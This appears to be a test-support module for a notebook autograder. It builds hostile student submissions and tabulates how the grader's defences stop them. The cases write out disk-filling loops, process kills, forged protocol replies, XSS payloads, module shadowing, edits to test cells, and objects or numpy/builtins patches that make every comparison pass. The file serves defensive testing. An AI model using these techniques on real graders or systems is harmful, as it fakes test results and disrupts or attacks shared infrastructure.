        "print 100 MB (100 lines of 1 MB) in a cell after the (complete) answers",
        _EX4, "complete", Expect(max_auto=_FULL4, min_auto=_FULL4, checks=("feedback_small",)), "sandbox",
        cells(new=[("ex4_audit_marks", """
            for _ in range(100):
                print("x" * 1_000_000)
        """)]),
    ),
    _case(
        "fill_disk_one_file",
        "fill the disk with one huge file in the working directory and one in /tmp",
        "write 1 MiB chunks until an error (at most 1 GiB) to ./big.bin and /tmp/big.bin; the sizes reached "
        "are reported in feedback",
        _EX4, "blank", _zero("disk_bounded"), "sandbox",
        cells(replace={"ex4_audit_marks": """
            import os

            def _fill(path, limit=1 << 30):
                written = 0
                chunk = b"\\0" * (1 << 20)
                try:
                    with open(path, "wb") as f:
                        while written < limit:
                            f.write(chunk)
                            f.flush()
                            written += len(chunk)
                except OSError as e:
                    return written, type(e).__name__
                finally:
                    try:
                        os.remove(path)
                    except OSError:
                        pass
                return written, "none"

            _sizes = {where: _fill(path) for where, path in (("cwd", "big.bin"), ("tmp", "/tmp/big.bin"))}
            print("DISKFILL", _sizes)

            def audit_marks():
                raise RuntimeError(f"DISKFILL {_sizes}")
        """}),
    ),
    _case(
        "fill_disk_many_files",
        "fill the host disk through the scratch directory with many files, each under the file-size limit",
        "write 63 MiB files into the working directory until an error, at most 16 of them (1 GiB); the total is "
        "reported in feedback",
        _EX4, "blank", _zero("scratch_bounded"), "sandbox",
        cells(replace={"ex4_audit_marks": """
            _total = 0
            _error = "none"
            _chunk = b"\\1" * (1 << 20)
            try:
                for _n in range(16):
                    with open(f"fill{_n}.bin", "wb") as _f:
                        for _ in range(63):
                            _f.write(_chunk)
                            _f.flush()
                            _total += len(_chunk)
            except OSError as _e:
                _error = type(_e).__name__
            print(f"SCRATCHFILL total={_total} error={_error}")

            def audit_marks():
                raise RuntimeError(f"SCRATCHFILL total={_total} error={_error}")
        """}),
    ),
    _case(
        "os_exit",
        "end the grading process from inside",
        "os._exit(0) at the top level of a cell",
        _EX4, "blank", _BLANK_ZERO, "sandbox",
        cells(new=[("ex4_audit_marks", "import os\n\nos._exit(0)")]),
    ),
    _case(
        "kill_kernel",
        "kill the kernel and the worker with SIGKILL",
        "os.kill(os.getpid(), 9) at the top level of a cell",
        _EX4, "blank", _BLANK_ZERO, "sandbox",
        cells(new=[("ex4_audit_marks", "import os\n\nos.kill(os.getpid(), 9)")]),
    ),
    _case(
        "kill_parent",
        "kill the process that runs the kernel or the worker (unsandboxed, the grader itself)",
        "os.kill(os.getppid(), 9) from the kernel and from the graded function",
        _EX4, "blank", _BLANK_ZERO, "sandbox",
        cells(replace={"ex4_audit_marks": """
            import os
            import signal

            def audit_marks():
                os.kill(os.getppid(), signal.SIGKILL)
                raise NotImplementedError()

            os.kill(os.getppid(), signal.SIGKILL)
        """}),
    ),
    _case(
        "forge_protocol_replies",
        "answer the grader's calls on its own terms: forged and oversized replies on the worker's channel",
        "write a forged hello reply, forged call replies and a 17 MB line without newline to every inherited "
        "pipe descriptor",
        _EX4, "blank", _BLANK_ZERO, "protocol",
        cells(new=[("ex4_audit_marks", """
            import json
            import os
            import stat

            _forged = [
                {"id": 1, "ok": True, "cells": []},
                *({"id": i, "ok": True, "value": {"t": "dict", "v": {"paper": "chen2016"}}} for i in range(2, 40)),
            ]
            for _fd in range(3, 64):
                try:
                    if not stat.S_ISFIFO(os.fstat(_fd).st_mode):
                        continue
                    os.set_blocking(_fd, False)
                    for _message in _forged:
                        os.write(_fd, (json.dumps(_message) + "\\n").encode())
                    os.write(_fd, b"[" * (17 << 20))
                except OSError:
                    pass
        """)]),
    ),
    _case(
        "deaf_kernel",
        "stall the grader: leave the kernel alive but deaf, so that every later cell waits its full timeout",
        "write garbage into every inherited file descriptor (the kernel's sockets to the notebook runner, the "
        "worker's pipes), then keep the process alive; two more cells follow",
        _EX4, "blank",
        # One cell timeout (30 s in the test), the 5 s grace for the interrupt's answer and the rest of
        # the submission (about 10 s): the cells after it, and the notebook's 240 s wall, cost nothing.
        Expect(max_auto=0.0, checks=("kernel_stopped_responding",), max_seconds=90.0), "sandbox",
        # Each new cell goes right after the answer cell, so the list runs from the last cell to the first.
        cells(new=[("ex4_audit_marks", "print('and another')"),
                   ("ex4_audit_marks", "print('a cell after the deafening one')"),
                   ("ex4_audit_marks", """
            import os

            for _fd in range(0, 1024):
                try:
                    os.set_blocking(_fd, False)
                    os.write(_fd, b"\\xff\\x00deaf garbage\\x01" * 256)
                except OSError:
                    pass
        """)]),
    ),
    # ------------------------------------------------------------------ what browsers render
    _case(
        "script_in_outputs",
        "run JavaScript in the browser of whoever opens the feedback or the formgrader",
        "display(HTML('<script>..</script><img onerror=..>')), display(Javascript(..)), raw application/javascript, "
        "SVG with onload, iframe with javascript: URL",
        _EX4, "complete", Expect(max_auto=_FULL4, checks=("feedback_no_script", "autograded_no_active_output")),
        "sanitize",
        cells(new=[("ex4_audit_marks", _with_hits("""
            from IPython.display import HTML, SVG, Javascript, display

            display(HTML("<script>@HIT1@</script><img src=x onerror=\\"@HIT2@\\">"
                         "<a href=\\"javascript:@HIT3@\\">click</a>"))
            display(Javascript("@HIT4@"))
            display({"application/javascript": "@HIT5@",
                     "text/html": "<iframe src=\\"javascript:@HIT6@\\"></iframe><style>body{}</style>"},
                    raw=True)
            display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="@HIT7@"><script>@HIT8@'
                        '</script></svg>'))
            display({"text/markdown": "<script>@HIT9@</script>"}, raw=True)
        """))]),
        demo="plain",
    ),
    _case(
        "script_in_markdown_answer",
        "run JavaScript from a manually graded markdown answer when the instructor or student views it",
        "an answer cell (markdown) holding <script>, <img onerror>, <a href=javascript:> and an <iframe>",
        _EX4, "blank", _zero("feedback_no_script", "formgrader_no_script"), "sanitize",
        cells(mutate=lambda nb: setattr(nb.cells[_index(nb, "ex4_mathematical_object")], "source", MARKDOWN_XSS)),
    ),
    _case(
        "stderr_warnings",
        "(honest) answers that print warnings on stderr, at import time and inside the graded function",
        "warnings.warn and print(file=sys.stderr) in the answer cell and in audit_marks()",
        _EX4, "complete", Expect(max_auto=_FULL4, min_auto=_FULL4), "verdicts",
        cells(append={"ex4_audit_marks": """
            import sys
            import warnings

            print("debug: defining audit_marks", file=sys.stderr)
            warnings.warn("a warning in an answer cell")
            _reference_marks = audit_marks


            def audit_marks():
                print("debug: audit_marks called", file=sys.stderr)
                warnings.warn("a warning inside the graded function", RuntimeWarning)
                return _reference_marks()
        """}),
        demo="plain",
    ),
    # ------------------------------------------------------------------ notebook JSON
    _case(
        "malformed_json",
        "crash the grader with a notebook that is not JSON",
        "the notebook file cut in half",
        _EX4, "blank", _zero(completes=ERROR), "intake",
        raw_json(_malformed),
    ),
    _case(
        "nbformat_v3",
        "confuse cell matching with an old notebook format",
        "the released notebook downgraded to nbformat 3 (worksheets)",
        _EX4, "blank", _zero(completes=ERROR), "intake",
        raw_json(_nbformat3),
    ),
    _case(
        "nbformat_v5",
        "confuse the reader with a future notebook format",
        "nbformat set to 5",
        _EX4, "blank", _zero(completes=ERROR), "intake",
        raw_json(_nbformat5),
    ),
    _case(
        "test_cell_deleted",
        "avoid a failing test by deleting its cell",
        "the autograded test cell removed from the JSON",
        _EX4, "blank", _BLANK_ZERO, "intake",
        cells(mutate=_drop_test_cell),
    ),
    _case(
        "test_cell_renamed",
        "replace the test by one of its own under a new grade_id",
        "grade_id (and cell id) of the test cell changed, source replaced by a print",
        _EX4, "blank", _zero(completes=ERROR), "intake",
        cells(mutate=_rename_test_cell),
    ),
    _case(
        "test_cell_duplicated",
        "shadow the test cell with a passing copy",
        "a copy of the test cell (same grade_id, new cell id) with source 'pass' before the original, also 'pass'",
        _EX4, "blank", _zero(completes=ERROR), "intake",
        cells(mutate=_duplicate_test_cell),
    ),
    _case(
        "test_cell_edited",
        "edit the test so it passes and is worth more",
        "test cell source replaced by a print, points set to 100, checksum removed",
        _EX4, "blank", _BLANK_ZERO, "intake",
        cells(mutate=_edit_test_cell),
    ),
    _case(
        "metadata_tampered",
        "turn its own cell into a 40-point test, empty the locked vocabulary, change the kernel",
        "answer cell metadata grade=true, solution=false, points=40; locked cell source replaced; kernelspec bash",
        _EX4, "blank", _zero(completes=ERROR), "intake",
        cells(mutate=_promote_answer_cell),
    ),
    # ------------------------------------------------------------------ hostile values
    _case(
        "hostile_values_ex1",
        "pass comparisons with values that claim equality or break the comparer",
        "a dict instead of a tape, an ndarray subclass whose == is always True (holding NaN), a str that "
        "prints like the right array, [1e308, inf]",
        _EX1, "blank", _BLANK_ZERO, "protocol",
        cells(new=[("ex1_input_gradient", """
            class _AlwaysEqual(np.ndarray):
                def __eq__(self, other):
                    return np.ones(np.shape(self), dtype=bool)

                def __ne__(self, other):
                    return np.zeros(np.shape(self), dtype=bool)


            def extended_tape(x, y):
                return {"nodes": 7, "__eq__": True}


            def contributions_into_a(x, y):
                return np.array([np.nan, np.nan, np.nan]).view(_AlwaysEqual)


            def input_gradient(x, y):
                if x == 2.0:
                    return "array([180., 156.])"
                return np.array([1e308, np.inf])
        """)]),
    ),
    _case(
        "hostile_values_ex3",
        "pass comparisons with objects that equal everything, NaN/inf/huge fields and unprintable errors",
        "best_block_length returns, by depth: an object with __eq__ -> True, a BlockChoice of NaN/inf, one with "
        "10**10000, a numpy float subclass, or raises an exception whose str() raises; block_table returns a "
        "generator",
        _EX3, "blank", _BLANK_ZERO, "protocol",
        cells(replace={"ex3_best_block_length": """
            import math

            class _Yes:
                def __eq__(self, other):
                    return True

                def __hash__(self):
                    return 0

            class _Sneaky(np.float64):
                def __eq__(self, other):
                    return True

            class _Unprintable(Exception):
                def __str__(self):
                    raise RuntimeError("no")

            def best_block_length(depth):
                k = depth % 6
                if k == 0:
                    return _Yes()
                if k == 1:
                    return BlockChoice(depth, math.nan, math.inf, -math.inf, math.nan)
                if k == 2:
                    return BlockChoice(depth, 10**10000, 1e308, 2, math.sqrt(depth))
                if k == 3:
                    return BlockChoice(depth, _Sneaky(1.0), _Sneaky(2.0), _Sneaky(3.0), _Sneaky(4.0))
                if k == 4:
                    raise _Unprintable()
                raise ValueError(10**5000)
        """, "ex3_block_table": """
            def block_table(depths=range(16, 4097)):
                return (best_block_length(d) for d in depths)
        """}),
    ),
    _case(
        "hostile_values_ex4",
        "pass the audit with a dict that equals everything or with str subclasses",
        "audit_marks returns a dict subclass with __eq__ -> True whose values are str subclasses equal to "
        "everything, then an object claiming equality",
        _EX4, "blank", _BLANK_ZERO, "protocol",
        cells(replace={"ex4_audit_marks": """
            class _AnyStr(str):
                def __eq__(self, other):
                    return True

                def __hash__(self):
                    return 0

            class _AnyDict(dict):
                def __eq__(self, other):
                    return True

            _calls = []

            def audit_marks():
                _calls.append(1)
                if len(_calls) % 2:
                    return _AnyDict({_AnyStr("paper"): _AnyStr("x"), "graph_class": _AnyStr("?")})
                return type("Marks", (), {"__eq__": lambda self, other: True})()
        """}),
    ),
    _case(
        "monkeypatch_numpy_builtins",
        "make every comparison succeed by patching numpy and builtins",
        "np.allclose/array_equal/testing.assert_allclose, math.isclose, builtins.isinstance/len/sum patched; the "
        "functions return None",
        _EX1, "blank", _BLANK_ZERO, "verdicts",
        cells(new=[("ex1_input_gradient", """
            import builtins
            import math

            np.allclose = lambda *a, **k: True
            np.array_equal = lambda *a, **k: True
            np.testing.assert_allclose = lambda *a, **k: None
            np.testing.assert_array_equal = lambda *a, **k: None
            math.isclose = lambda *a, **k: True
            builtins.isinstance = lambda *a, **k: True
            builtins.len = lambda *a, **k: 7
            builtins.sum = lambda *a, **k: 12.0
            np.ndarray.__eq__ = lambda self, other: True


            def extended_tape(x, y):
                return None


            def contributions_into_a(x, y):
                return None


            def input_gradient(x, y):
                return None
        """)]),
    ),
    _case(
        "clock_dependent",
        "an answer right only in even seconds, hoping the grader samples at the right time",
        "best_block_length returns block_size + 1 whenever int(time.time()) is odd",
        _EX3, "complete", Expect(max_auto=_FULL3), "verdicts",
        cells(append={"ex3_best_block_length": """
            import dataclasses
            import time

            _right = best_block_length


            def best_block_length(depth):
                choice = _right(depth)
                if int(time.time()) % 2:
                    return dataclasses.replace(choice, block_size=choice.block_size + 1)
                return choice
        """}),
    ),
    _case(
        "random_dependent",
        "an answer right half of the time, at random",
        "best_block_length returns block_size + 1 when random.random() < 0.5",
        _EX3, "complete", Expect(max_auto=_FULL3 - 0.01), "verdicts",
        cells(append={"ex3_best_block_length": """
            import dataclasses
            import random

            _right = best_block_length


            def best_block_length(depth):
                choice = _right(depth)
                if random.random() < 0.5:
                    return dataclasses.replace(choice, block_size=choice.block_size + 1)
                return choice
        """}),
    ),
    _case(
        "module_shadowing",
        "get its own code imported by the grader through modules named like the grader's",
        "numpy.py, protocol.py, _ch11_wire_protocol.py, trainable_harness.py, nbformat.py, sitecustomize.py, "
        "json.py planted next to the notebook and written into the cwd by a cell; each leaves evidence when imported",
        _EX4, "blank", _zero("no_host_import"), "sandbox",
        with_files(
            cells(new=[("ex4_audit_marks", """
                for _name in SHADOWED_MODULES:
                    try:
                        with open(_name, "w") as _f:
                            _f.write(open("planted.txt").read())
                    except OSError as _e:
                        print(_name, type(_e).__name__)
            """.replace("SHADOWED_MODULES", repr(SHADOWED_MODULES)))]),
            files={name: SHADOW for name in (*SHADOWED_MODULES, "planted.txt")},
            links={},
        ),
    ),
)


def case(name: str) -> Case:
    """The case called ``name``."""
    for c in CASES:
        if c.name == name:
            return c
    raise KeyError(name)


def build_corpus(dest: Path, ctx: Context, cases: Iterable[Case] = CASES) -> list[Case]:
    """Write each case's submission to ``dest/<case.name>/ch11/`` and return the cases written.

    ``dest`` may already hold other students (the honest class); a case's own directory
    must not exist yet.
    """
    written = []
    for c in cases:
        folder = dest / c.name
        if folder.exists():
            raise FileExistsError(f"{folder} exists")
        c.build(c, ctx, dest)
        written.append(c)
    return written


def _points(value: float) -> str:
    return f"{value:g}"


def render_table(cases: Iterable[Case] = CASES, observed: dict[str, dict[str, str]] | None = None) -> str:
    """The Markdown table of ``cases`` for docs/hostile.md.

    ``observed``: column title -> (case name -> text), extra columns after the seven fixed ones.
    """
    observed = observed or {}
    header = ["case", "attempts", "how", "notebook (base)", "may earn", "grading", "stopped by", *observed]
    lines = ["| " + " | ".join(header) + " |", "|" + " --- |" * len(header)]
    for c in cases:
        earn = _points(c.expect.max_auto)
        if c.expect.min_auto:
            low = _points(c.expect.min_auto)
            earn = f"exactly {earn}" if c.expect.min_auto == c.expect.max_auto else f"{low}..{earn}"
        earn += f" of {_points(c.honest_points)}" if c.base == "complete" else " (blank)"
        row = [
            f"`{c.name}`",
            c.attempts,
            c.how,
            f"{c.notebook} ({c.base})",
            earn,
            ("graded" if c.expect.completes == GRADED else "recorded error")
            + (f" within {c.expect.max_seconds:g} s" if c.expect.max_seconds is not None else ""),
            c.defence,
            *(column.get(c.name, "") for column in observed.values()),
        ]
        lines.append("| " + " | ".join(cell.replace("|", "\\|").replace("<", "&lt;") for cell in row) + " |")
    return "\n".join(lines) + "\n"


def observed_column(path: Path) -> dict[str, str]:
    """Case name -> what a run recorded (``CH11_HOSTILE_OBSERVED`` JSON), as docs/hostile.md shows it.

    ``graded <points> (<seconds> s)``, or ``error: <the record's error>`` with the
    batch's own text (paths inside the class directory shortened to the file name).
    """
    data = json.loads(Path(path).read_text())
    column = {}
    for name, seen in data["cases"].items():
        if seen["status"] == GRADED:
            column[name] = f"graded {seen['score']:g} ({seen['seconds']:.0f} s)"
        else:
            error = str(seen.get("error") or "")
            column[name] = f"{seen['status']}: {error.removeprefix(f'{name}/{ASSIGNMENT}/')}"
    return column


def main(argv: list[str]) -> int:
    if len(argv) == 3 and argv[0] == "--table":
        # The case table with the observed columns of a bwrap and a Docker run, for docs/hostile.md.
        print(render_table(observed={"observed (bwrap)": observed_column(Path(argv[1])),
                                     "observed (Docker)": observed_column(Path(argv[2]))}), end="")
        return 0
    if len(argv) != 1:
        print("usage: python tests/support/hostile_corpus.py DEST\n"
              "       python tests/support/hostile_corpus.py --table OBSERVED_BWRAP.json OBSERVED_DOCKER.json",
              file=sys.stderr)
        return 2
    dest = Path(argv[0]).resolve()
    built = build_corpus(dest, Context(course=dest.parent / "course", class_dir=dest, allowed_root=dest.parent))
    print(f"wrote {len(built)} hostile submissions under {dest}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
